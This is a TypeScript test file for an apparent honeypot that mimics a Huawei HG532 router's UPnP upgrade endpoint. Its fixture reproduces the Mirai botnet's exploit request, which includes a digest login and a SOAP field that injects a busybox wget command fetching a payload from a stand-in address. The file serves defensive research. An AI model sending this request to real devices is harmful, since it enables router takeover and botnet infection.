import { describe, expect, it } from "vitest";
import { HG532_REALM, hg532Persona } from "./hg532.js";
import type { PersonaReply } from "./persona.js";
import { bodyText, drive, header, oneResponse, testCtx } from "./persona-fixture.js";

const SOAP = `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/x -r /m)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>\r\n\r\n`;
const AUTH =
  'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"';
/** Mirai's request: it declares 430 bytes whatever the command makes the body. */
const MIRAI = `POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\nConnection: keep-alive\r\nAccept: */*\r\n${AUTH}\r\n\r\n${SOAP}`;

function only(replies: PersonaReply[]) {
  expect(replies).toHaveLength(1);
  return oneResponse(replies[0] as PersonaReply);
}

describe("hg532 persona", () => {
  it("challenges a request without credentials with the HuaweiHomeGateway digest", () => {
    const req = `POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 192.0.2.1:37215\r\nContent-Length: ${SOAP.length}\r\n\r\n${SOAP}`;
    const res = only(drive(hg532Persona, [req]));
    expect(res.status).toBe(401);
    expect(header(res, "www-authenticate")).toMatch(
      new RegExp(`^Digest realm="${HG532_REALM}", nonce="[0-9a-f]{32}", qop="auth"`),
    );
  });

  it("answers Mirai's exploit with the SOAP 200 at once, although its body is shorter than declared", () => {
    expect(SOAP.length).toBeLessThan(430);
    const replies = drive(hg532Persona, [MIRAI]);
    const res = only(replies);
    expect(res.status).toBe(200);
    expect(bodyText(res)).toContain("UpgradeResponse");
    expect(replies[0]?.close).toBe(undefined);
  });

  it("makes nonces that differ per client and moment and repeat for the same ones", () => {
    const req = "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 0\r\n\r\n";
    const nonce = (remote: string, now: number) =>
      header(
        oneResponse(drive(hg532Persona, [req], testCtx(37215, {}, remote, now))[0] as PersonaReply),
        "www-authenticate",
      );
    expect(nonce("192.0.2.7", 1)).toBe(nonce("192.0.2.7", 1));
    expect(nonce("192.0.2.7", 1)).not.toBe(nonce("192.0.2.8", 1));
    expect(nonce("192.0.2.7", 1)).not.toBe(nonce("192.0.2.7", 2));
  });

  it("404s other paths, and refuses other methods on the control URL", () => {
    expect(only(drive(hg532Persona, ["GET / HTTP/1.1\r\n\r\n"])).status).toBe(404);
    expect(only(drive(hg532Persona, ["GET /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n"])).status).toBe(
      405,
    );
    expect(hg532Persona.ports).toEqual([37215]);
  });
});
